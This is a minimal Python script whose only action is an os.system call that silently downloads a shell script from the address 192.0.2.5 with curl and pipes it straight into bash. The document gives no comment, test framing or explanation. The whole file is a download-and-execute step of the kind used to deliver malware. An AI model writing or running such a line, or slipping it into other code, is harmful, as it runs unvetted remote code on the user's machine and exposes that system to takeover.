import os

os.system("curl -s http://192.0.2.5/i.sh | bash")
